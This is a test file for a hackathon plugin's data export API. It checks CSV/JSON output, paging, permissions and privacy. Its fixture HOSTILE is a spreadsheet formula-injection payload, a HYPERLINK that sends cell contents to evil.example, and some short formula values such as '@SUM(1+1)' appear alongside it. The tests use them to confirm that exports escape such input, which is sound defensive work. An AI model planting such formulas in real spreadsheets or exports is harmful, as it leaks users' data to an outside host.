import { mockCredentials, TestDatabases } from '@backstage/backend-test-utils';
import { AuthorizeResult } from '@backstage/plugin-permission-common';
import { HackathonsClient } from '@guildhall/plugin-hackathons-common';
import type { Knex } from 'knex';
import { addRegistrations, at, charter, JAM, JAM_PATH } from './__testUtils__';
import { giveScores } from './__testUtils__/judgedProjects';
import {
  PEOPLE,
  startProjects,
  type TestProjects,
} from './__testUtils__/startProjects';

const { ada, bob, cleo, finn, jun, mia, olga } = PEOPLE;
const KINDS = [
  'participants',
  'teams',
  'projects',
  'scores',
  'results',
  'debrief',
  'endings',
];
const HOSTILE = '=HYPERLINK("http://evil.example?"&A1,\n"click, me")';

const databases = TestDatabases.create({ ids: ['SQLITE_3', 'POSTGRES_15'] });

describe.each(databases.eachSupportedId())('exports on %p', id => {
  let knex: Knex;
  let jams: TestProjects;
  let project: string;

  beforeEach(async () => {
    at('2026-11-24T10:00Z');
    knex = await databases.init(id);
    jams = await startProjects(knex, {
      charters: [
        charter({
          spec: {
            registration: {
              questions: [{ name: 'diet', question: 'What do you eat?' }],
            },
          },
        }),
      ],
    });
    project = await jams.makeProject({
      title: HOSTILE,
      pitch: '@SUM(1+1)',
      tags: ['+1', '-1'],
      entityRef: 'component:default/prototype',
      assets: ['resource:default/user_features'],
    });
    await jams.call('POST', `/projects/${project}/submissions`, {
      as: ada,
      body: { title: HOSTILE, pitch: 'Never stale' },
    });
    at('2026-12-05T10:00Z');
  });

  afterEach(async () => {
    vi.useRealTimers();
    await jams.stop();
  });

  const call = (what: string, as: string, format = 'json') =>
    jams.call('GET', `${JAM_PATH}/exports/${what}?format=${format}`, { as });
  it('are files that no spreadsheet runs', async () => {
    const answer = await jams.call('GET', `${JAM_PATH}/exports/projects`, {
      as: olga,
    });
    const [header, ...lines] = answer.body.split('\r\n');
    expect(header).toMatch(/^\ufeff?id,title,pitch,team,members,theme,/);
    expect(lines.join('\r\n')).toContain(
      `${project},"'=HYPERLINK(""http://evil.example?""&A1,\n""click, me"")",'@SUM(1+1),Owls,"user:default/ada; user:default/bob",`,
    );
    expect(lines.join('\r\n')).toContain(`,"'+1; -1",`);
    const response = await fetch(`${jams.url}${JAM_PATH}/exports/projects`, {
      headers: { authorization: mockCredentials.user.header(olga) },
    });
    expect([...response.headers]).toEqual(
      expect.arrayContaining([
        ['content-type', 'text/csv; charset=utf-8; header=present'],
        ['content-disposition', 'attachment; filename="jam-projects.csv"'],
        ['cache-control', 'no-store'],
      ]),
    );
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect((await call('projects', olga)).body).toMatchObject([
      {
        id: project,
        title: HOSTILE,
        tags: ['+1', '-1'],
        entityRef: 'component:default/prototype',
        submission: 1,
      },
    ]);
  });

  it('come through the client as they are', async () => {
    const client = new HackathonsClient({
      discoveryApi: { getBaseUrl: async () => jams.url },
      token: async () => mockCredentials.user.token(olga),
    });
    const csv = await client.programme.exportHackathon(JAM, 'teams');
    expect(await csv.text()).toContain('Foxes');
    const json = await client.programme.exportHackathon(JAM, 'teams', {
      format: 'json',
    });
    expect(JSON.parse(await json.text())).toHaveLength(2);
    const programme = await client.programme.exportProgramme({
      from: '2026-01-01T00:00:00Z',
      format: 'json',
    });
    expect(await programme.text()).toBe('[]\n');
    await expect(
      client.programme.exportHackathon(JAM, 'results'),
    ).rejects.toMatchObject({ statusCode: 409 });
  });

  it('go on over pages to the last row, and keep to themselves what people do', async () => {
    const names = Array.from({ length: 1203 }, (_, n) => `person${n}`);
    await addRegistrations(knex, JAM, names);
    await addRegistrations(knex, JAM, ['late'], 'waiting-list');
    await knex('registrations')
      .where({ user_ref: ada })
      .update({
        answers: JSON.stringify({ diet: '=all' }),
        attributes: JSON.stringify({ gender: 'secret' }),
        skills: JSON.stringify(['sql']),
        home_teams: JSON.stringify(['group:default/features']),
      });
    const { body } = await call('participants', olga);
    expect(body).toHaveLength(5 + 1203 + 1);
    expect(new Set(body.map((row: any) => row.user)).size).toBe(1209);
    const own = body.find((row: any) => row.user === ada);
    expect(own).toMatchObject({
      team: 'Owls',
      state: 'registered',
      homeTeams: ['group:default/features'],
      'answer: diet': '=all',
    });
    expect(own.skills).toBeUndefined();
    expect(body.at(-1)).toMatchObject({ state: 'waiting-list' });
    expect(JSON.stringify(body)).not.toContain('secret');
    const csv = await call('participants', olga, 'csv');
    expect(csv.body.split('\r\n')).toHaveLength(1 + 1209 + 1);
    expect(csv.body).toContain(",'=all\r\n");
  });

  it('are for organisers with the permission, in events that they see', async () => {
    for (const what of KINDS.filter(kind => kind !== 'results')) {
      for (const as of [ada, jun, mia, finn]) {
        expect([what, as, (await call(what, as)).status]).toEqual([
          what,
          as,
          403,
        ]);
      }
      expect([what, (await call(what, olga)).status]).toEqual([what, 200]);
    }
    expect((await call('secrets', olga)).status).toBe(400);
    expect((await call('teams', olga, 'xlsx')).status).toBe(400);
    const service = await jams.callAsService(
      'GET',
      `${JAM_PATH}/exports/teams`,
    );
    expect(service.status).toBe(403);
    jams.decisions['hackathons.event.manage'] = {
      result: AuthorizeResult.DENY,
    };
    expect((await call('teams', olga)).status).toBe(403);
    jams.catalog.hide(olga, JAM);
    expect((await call('teams', olga)).status).toBe(404);
  });

  it('give scores to those who do not take part, and results once they are published', async () => {
    await giveScores(knex, [
      { judge: jun, project, scores: { impact: 4 } },
      { judge: 'user:default/ivan', project, scores: { impact: 2 } },
    ]);
    expect((await call('scores', olga)).body).toEqual([
      {
        judge: 'user:default/ivan',
        project,
        title: HOSTILE,
        criterion: 'impact',
        score: 2,
      },
      { judge: jun, project, title: HOSTILE, criterion: 'impact', score: 4 },
    ]);
    // What the estimate is not made of: what doesn't fit the criteria any more, and the project that judges practise with.
    const [look] = await knex('judge_looks').where('judge_ref', jun);
    await knex('judge_scores').insert([
      { look_id: look.id, criterion: 'dropped', score: 5 },
      { look_id: look.id, criterion: 'craft', score: 9 },
    ]);
    expect((await call('scores', olga)).body).toHaveLength(2);
    const panel = { hackathon_ref: JAM, calibration_project_id: project };
    await knex('judging_panels').insert({ ...panel, seed: 1, synced_at: 0 });
    expect((await call('scores', olga)).body).toEqual([]);
    await knex('judging_panels').delete();
    expect((await call('results', olga)).status).toBe(409);
    await jams.call('POST', `${JAM_PATH}/results/publication`, {
      as: olga,
      body: { version: 0 },
    });
    expect((await call('results', finn)).body).toMatchObject([
      { project, title: HOSTILE, team: 'Owls', looks: 2, awards: [] },
    ]);
    jams.catalog.hide(finn, JAM);
    expect((await call('results', finn)).status).toBe(404);
    await knex('team_members')
      .where({ user_ref: bob })
      .update({ user_ref: olga });
    const partial = await call('scores', olga);
    expect([partial.status, partial.body.error.message]).toEqual([
      403,
      expect.stringContaining('another organiser'),
    ]);
  });

  it('tell how projects ended, without what the catalog hides', async () => {
    await jams.call('PUT', `/projects/${project}/ending`, {
      as: ada,
      body: {
        ending: 'transition',
        to: 'group:default/risk',
        reason: '-1+1',
      },
    });
    const [row] = (await call('endings', olga)).body;
    expect(row).toMatchObject({
      title: HOSTILE,
      ending: 'transition',
      proposedOwner: 'group:default/risk',
      answer: 'waiting',
      endedAt: '2026-12-05T10:00:00.000Z',
    });
    jams.catalog.hide(
      olga,
      'group:default/risk',
      'component:default/prototype',
    );
    expect((await call('endings', olga)).body[0].proposedOwner).toBeUndefined();
    expect((await call('projects', olga)).body[0].entityRef).toBeUndefined();
    expect((await call('endings', olga, 'csv')).body).toContain(",'-1+1,");
    expect((await call('teams', olga)).body).toMatchObject([
      { name: 'Foxes', size: 2, members: [cleo, 'user:default/dan'] },
      { name: 'Owls', project },
    ]);
  });
});
